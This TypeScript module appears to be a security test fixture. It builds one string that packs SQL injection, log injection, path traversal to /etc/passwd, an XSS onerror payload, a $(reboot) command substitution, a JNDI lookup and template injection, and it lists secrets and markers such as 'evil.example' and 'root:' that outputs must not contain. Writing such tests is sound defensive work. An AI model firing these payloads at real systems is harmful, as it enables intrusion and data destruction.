import { words, type World } from './world.ts';

/** A word that stands in all that attackers send. */
export const mark = 'Xyzzyattack';

/** One text that tries everything at once: statements, lines of a log, files, other hosts, markup. */
export const hostile = (world: World) =>
  [
    `${mark}'; drop table pipeline.signals; --`,
    `\r\n{"at":"2026-01-01T00:00:00.000Z","event":"${mark}"}\u2028\u001b[31m`,
    `/../../../../etc/passwd ..%2f..%2f${world.canary.address} <img src=x onerror=alert(1)>`,
    "$(reboot) ${jndi:ldap://x} {{7*7}} ' or 1=1 --",
  ].join(' ');

/** What no answer may hold, whoever gets it. */
export const secretsAndWords = (world: World): readonly string[] => [
  ...[...world.secrets, ...words, mark],
  ...['/canary', 'evil.example', 'root:'],
];
